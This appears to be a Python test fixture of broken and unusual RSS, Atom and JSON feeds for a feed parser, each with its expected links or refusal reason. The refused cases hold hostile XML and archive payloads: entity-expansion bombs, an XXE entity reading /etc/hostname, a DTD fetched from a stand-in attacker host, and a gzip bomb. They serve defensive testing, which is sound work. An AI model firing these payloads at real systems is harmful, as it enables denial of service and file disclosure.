"""Broken and odd feeds, each with what can be read of it: the links in order, or the reason why it is refused."""

from __future__ import annotations

import gzip
import json
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

FEED_URL = "https://news.example/feeds/all.xml"
ROOT = "https://news.example"
ONE, TWO, THREE = (f"{ROOT}/p/{number}.html" for number in (1, 2, 3))


@dataclass(frozen=True, kw_only=True)
class OddFeed:
    """A feed's bytes; `links` are found in it, or it is refused with the reason `refused`."""

    name: str
    body: bytes
    links: tuple[str, ...] = ()
    content_type: str = "application/rss+xml"
    refused: str = ""


def odd(
    name: str, body: str | bytes, *links: str, content_type: str = "application/rss+xml", refused: str = ""
) -> OddFeed:
    data = body.encode() if isinstance(body, str) else body
    return OddFeed(name=name, body=data, links=links, content_type=content_type, refused=refused)


def item(number: int, *, link: str | None = None, title: str = "", more: str = "") -> str:
    link = f"{ROOT}/p/{number}.html" if link is None else link
    shown = f"<link>{link}</link>" if link else ""
    return f"<item><title>{title or f'第{number}篇'}</title>{shown}<description>摘要{number}</description>{more}</item>"


def rss(*items: str, declaration: str = '<?xml version="1.0" encoding="UTF-8"?>', after: str = "") -> str:
    inside = "".join(items or (item(1), item(2), item(3)))
    channel = f"<channel><title>新闻</title><link>{ROOT}/</link>{inside}</channel>"
    return f'{declaration}\n<rss version="2.0">{channel}</rss>{after}'


def entry(number: int, *, links: str | None = None, more: str = "") -> str:
    links = f'<link rel="alternate" href="{ROOT}/p/{number}.html"/>' if links is None else links
    return f"<entry><title>第{number}篇</title>{links}<id>tag:news.example,2026:{number}</id>{more}</entry>"


def atom(*entries: str, base: str = "") -> str:
    inside = "".join(entries or (entry(1), entry(2), entry(3)))
    return f'<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"{base}><title>新闻</title>{inside}</feed>'


def json_feed(*items: dict[str, Any], **more: Any) -> str:
    items = items or tuple({"id": str(number), "url": url} for number, url in enumerate((ONE, TWO, THREE), 1))
    return json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "新闻", "items": items, **more})


def _laughs(levels: int) -> str:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, levels))
    return f'<!DOCTYPE rss [<!ENTITY l0 "lol">{entities}]>'


_BOMB = rss(item(1, title=f"&l{8};"), declaration=f'<?xml version="1.0"?>{_laughs(9)}')
_QUADRATIC = rss(
    item(1, title="&a;" * 20_000), declaration=f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "{"a" * 50_000}">]>'
)
_OUTSIDE = '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
_PARAMETER = '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'
_NETSCAPE = '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/x.dtd">'
_RDF = """<?xml version="1.0"?><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
 xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel rdf:about="{root}/">
 <title>新闻</title></channel>{items}</rdf:RDF>"""


def _rdf() -> str:
    items = "".join(
        f'<item rdf:about="{url}"><title>x</title><link>{url}</link><dc:date>2026-01-02T03:04:05+08:00</dc:date></item>'
        for url in (ONE, TWO)
    )
    return _RDF.format(root=ROOT, items=items)


def _good() -> Iterator[OddFeed]:
    three = (ONE, TWO, THREE)
    yield odd("RSS 2.0", rss(), *three)
    yield odd("RSS 0.91 with Netscape's type", rss(declaration=_NETSCAPE), *three)
    yield odd("RDF", _rdf(), ONE, TWO)
    yield odd("Atom 1.0", atom(), *three)
    old = (
        atom()
        .replace("http://www.w3.org/2005/Atom", "http://purl.org/atom/ns#")
        .replace("<feed", '<feed version="0.3"')
    )
    yield odd("Atom 0.3", old, *three)
    yield odd("JSON Feed", json_feed(), *three, content_type="application/feed+json")
    yield odd("no items at all", rss(" "))
    yield odd("named text/html", rss(), *three, content_type="text/html; charset=utf-8")
    yield odd("packed, and no header says so", gzip.compress(rss().encode()), *three)
    yield odd(
        "a stylesheet and comments between",
        rss(item(1), "<!-- <item><link>x</link></item> -->", item(2)).replace("?>", "?><?xml-stylesheet href='x'?>", 1),
        ONE,
        TWO,
    )
    yield odd(
        "10,000 items",
        rss(*(item(number) for number in range(10000))),
        *tuple(f"{ROOT}/p/{number}.html" for number in range(10000)),
    )


def _cut_off() -> Iterator[OddFeed]:
    whole = rss()
    yield odd("cut off inside an item", whole[: whole.index("摘要3")], ONE, TWO, THREE)
    yield odd("cut off inside a tag", whole[: whole.index("<link>", whole.index("第3篇")) + 3], ONE, TWO)
    yield odd(
        "cut off inside a character", whole.encode()[: whole.encode().index("摘要3".encode()) + 1], ONE, TWO, THREE
    )
    cdata = rss(item(1), item(2, more="<content><![CDATA[<p>Text"))
    yield odd("cut off inside CDATA", cdata.split("<p>Text")[0], ONE, TWO)
    text = json_feed()
    yield odd("JSON cut off inside an item", text[: text.index(THREE)], ONE, TWO)
    packed = gzip.compress(rss(item(1), item(2, more="".join(map(str, range(3000))))).encode())
    yield odd("packed and cut off", packed[: len(packed) * 2 // 3], ONE, TWO)


def _encodings() -> Iterator[OddFeed]:
    three = (ONE, TWO, THREE)

    def declared(name: str) -> str:
        return rss(declaration=f'<?xml version="1.0" encoding="{name}"?>')

    yield odd("GBK", declared("GBK").encode("gbk"), *three)
    yield odd("says UTF-8, is GBK", declared("UTF-8").encode("gbk"), *three)
    yield odd("says GB2312, is UTF-8", declared("gb2312"), *three)
    yield odd("header says GBK, is UTF-8", rss(), *three, content_type="text/xml; charset=gbk")
    big5 = rss(item(1, title="繁體標題")).replace("新闻", "新聞").replace('"UTF-8"', '"Big5"')
    yield odd("Big5", big5.encode("big5"), ONE)
    yield odd("UTF-16 with its mark", declared("UTF-16").encode("utf-16"), *three)
    yield odd("UTF-16 without its mark", declared("UTF-16").encode("utf-16-le"), *three)
    yield odd("a byte order mark", b"\xef\xbb\xbf" + rss().encode(), *three)
    yield odd("a byte order mark, then blank lines", b"\xef\xbb\xbf\r\n\r\n  " + rss().encode(), *three)
    yield odd("JSON with a byte order mark", b"\xef\xbb\xbf" + json_feed().encode(), *three)
    yield odd("an encoding that nobody knows", declared("x-unknown"), *three)
    yield odd(
        "a byte that is none of UTF-8",
        rss().encode().replace(b"RSS", b"\xff").replace("第2篇".encode(), b"\xe7\xac"),
        *three,
    )
    latin = (
        rss(item(1, title="caf\xe9 \x93quoted\x94"))
        .replace("新闻", "n")
        .replace("摘要1", "s")
        .replace("UTF-8", "ISO-8859-1")
    )
    yield odd("Windows' quotation marks", latin.encode("latin-1"), ONE)


def _characters() -> Iterator[OddFeed]:
    yield odd("control characters", rss(item(1, title="a\x0b\x1f\x08b"), item(2)), ONE, TWO)
    yield odd("references to control characters", rss(item(1, title="a&#0;&#x1f;&#11;b"), item(2)), ONE, TWO)
    yield odd("a reference beyond Unicode", rss(item(1, title="a&#x110000;&#xFFFFFF;b")), ONE)
    yield odd("half a surrogate pair", rss(item(1, title="a&#xD83D;b")), ONE)
    raw = json_feed().replace("新闻", "a\x01\tb")
    yield odd("JSON with raw control characters", raw, ONE, TWO, THREE)
    yield odd(
        "bare ampersands", rss(item(1, link=f"{ROOT}/p?a=1&b=2", title="A & B"), item(2)), f"{ROOT}/p?a=1&b=2", TWO
    )
    yield odd("HTML's entities, undeclared", rss(item(1, title="a&nbsp;&mdash;&hellip;b"), item(2)), ONE, TWO)
    declared = rss(
        item(1, title="a&nbsp;b"), declaration='<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY nbsp "&#160;">]>'
    )
    yield odd("an entity declared as it should be", declared, ONE)
    yield odd("a title of a megabyte", rss(item(1, title="长" * 350000), item(2)), ONE, TWO)


def _links() -> Iterator[OddFeed]:
    yield odd("relative links", rss(item(1, link="/p/1.html"), item(2, link="../p/2.html")), ONE, TWO)
    yield odd("no scheme", rss(item(1, link="//news.example/p/1.html")), ONE)
    yield odd("white space around links", rss(item(1, link=f"\n\t {ONE}\n ")), ONE)
    yield odd("links in CDATA", rss(item(1, link=f"<![CDATA[{ONE}]]>")), ONE)
    based = atom(
        entry(1, links='<link href="1.html"/>'), entry(2, links='<link href="2.html"/>'), base=f' xml:base="{ROOT}/p/"'
    )
    yield odd("links that count from xml:base", based, ONE, TWO)
    inner = atom(entry(1, links=f'<link xml:base="{ROOT}/p/" href="1.html"/>'))
    yield odd("an xml:base of one element", inner, ONE)
    burner = f'<feedburner:origLink xmlns:feedburner="http://rssnamespace.org/feedburner/ext/1.0">{ONE}</feedburner:origLink>'
    yield odd("FeedBurner's links", rss(item(1, link="http://feedproxy.example/~r/n/~3/x/", more=burner)), ONE)
    several = (
        '<link rel="self" href="https://news.example/self"/><link rel="enclosure" href="https://news.example/1.mp3"/>'
        f'<link rel="alternate" type="text/html" href="{ONE}"/>'
    )
    yield odd("several links of one entry", atom(entry(1, links=several)), ONE)
    ids = atom(*(f"<entry><title>x</title><id>{url}</id></entry>" for url in (ONE, TWO)))
    yield odd("Atom without links, its ids are addresses", ids, ONE, TWO)
    yield odd("Atom with nothing that leads anywhere", atom(entry(1, links=""), entry(2)), TWO)
    yield odd("a permanent guid, no link", rss(item(1, link="", more=f"<guid>{ONE}</guid>")), ONE)
    yield odd(
        "a guid that is no address", rss(item(1, link="", more='<guid isPermaLink="false">1</guid>'), item(2)), TWO
    )
    self_first = rss(
        f'<atom:link xmlns:atom="http://www.w3.org/2005/Atom" rel="self" href="{FEED_URL}"/>', item(1), item(2)
    )
    yield odd("the feed's own address before its items", self_first, ONE, TWO)
    hrefs = rss(f'<item><title>x</title><link href="{ONE}"/></item>')
    yield odd("RSS with Atom's links", hrefs, ONE)
    podcast = rss(item(1, more='<enclosure url="https://cdn.example/1.mp3" type="audio/mpeg" length="1"/>'))
    yield odd("a podcast", podcast, ONE)
    yield odd("duplicates", rss(item(1), item(1), item(2), item(1)), ONE, ONE, TWO, ONE)
    yield odd(
        "JSON whose ids are its addresses", json_feed({"id": ONE}, {"id": "2", "url": TWO}, {"id": "3"}), ONE, TWO
    )
    yield odd("JSON with items that are none", json_feed({"id": ONE}, "x", 7, None, {"url": ["x"]}), ONE)  # type: ignore[arg-type]
    yield odd("a link that no browser reads", rss(item(1, link="http://[::1"), item(2)), TWO)


def _markup() -> Iterator[OddFeed]:
    yield odd("HTML in titles, escaped", rss(item(1, title="&lt;b&gt;粗&lt;/b&gt;体")), ONE)
    yield odd("HTML in titles, in CDATA", rss(item(1, title="<![CDATA[<em>强</em>调]]>")), ONE)
    yield odd("HTML in titles, bare", rss(item(1, title="<b>粗</b>体")), ONE)
    yield odd("elements that are never closed", rss(item(1, more="<p>x<br>"), item(2)), ONE, TWO)
    crossed = rss(item(1, more="<a><b></a></b>"), item(2))
    yield odd("elements closed crosswise", crossed, ONE, TWO)
    yield odd(
        "elements in capitals",
        rss().replace("item>", "ITEM>").replace("link>", "LINK>").replace("channel>", "CHANNEL>"),
        ONE,
        TWO,
        THREE,
    )
    yield odd(
        "a script's warning before the feed",
        b"<br />\n<b>Warning</b>: x in <b>/www/feed.php</b><br />\n" + rss().encode(),
        ONE,
        TWO,
        THREE,
    )
    yield odd("a page behind the feed", rss(after="<html><body>x</body></html>"), ONE, TWO, THREE)
    yield odd(
        "a prefix that is not declared", rss(item(1, more="<content:encoded>x</content:encoded>"), item(2)), ONE, TWO
    )
    yield odd(
        "items outside the channel",
        f'<rss version="2.0"><channel><title>x</title></channel>{item(1)}{item(2)}</rss>',
        ONE,
        TWO,
    )
    ended = rss(item(1, title="<![CDATA[a ]]]]><![CDATA[> b]]>"), item(2))
    yield odd("the end of CDATA inside CDATA", ended, ONE, TWO)
    deep = rss(item(1, more="<a>" * 20_000 + "</a>" * 20_000), item(2))
    yield odd("20,000 elements inside each other", deep, ONE, TWO)
    dates = rss(
        item(1, more="<pubDate>昨天</pubDate>"),
        item(2, more="<pubDate>32 Foo 99 25:61</pubDate>"),
        item(3, more="<pubDate/>"),
    )
    yield odd("dates that are none", dates, ONE, TWO, THREE)


def _refused() -> Iterator[OddFeed]:
    malformed = "listing-malformed"
    yield odd("a billion laughs", _BOMB, refused=malformed)
    yield odd("a bomb in UTF-16", _BOMB.encode("utf-16"), refused=malformed)
    yield odd("a bomb in Atom", _BOMB.replace("rss", "feed"), refused=malformed)
    hidden = _BOMB.replace("<!DOCTYPE", "<!-- <rss > --><!DOCTYPE")
    yield odd("a bomb behind a comment that looks like the feed", hidden, refused=malformed)
    yield odd("one long entity, many times", _QUADRATIC, refused=malformed)
    yield odd("an entity that is a file", rss(item(1, title="&x;"), declaration=_OUTSIDE), refused=malformed)
    yield odd("an entity that lies elsewhere", rss(declaration=_PARAMETER), refused=malformed)
    yield odd("a gigabyte, packed", gzip.compress(bytes(100 * 1024 * 1024), 9), refused="too-large")
    yield odd("a page", b"<!DOCTYPE html><html><body><p>rss feed channel</p></body></html>", refused=malformed)
    yield odd("nothing", b"", refused=malformed)
    yield odd("noise", bytes(range(256)) * 100, refused=malformed)
    yield odd("JSON that is no feed", b'{"code": 0, "data": []}', refused=malformed)
    yield odd("JSON nested too deep", b'{"items": ' + b"[" * 200000, refused=malformed)


ODD_FEEDS = (*_good(), *_cut_off(), *_encodings(), *_characters(), *_links(), *_markup(), *_refused())
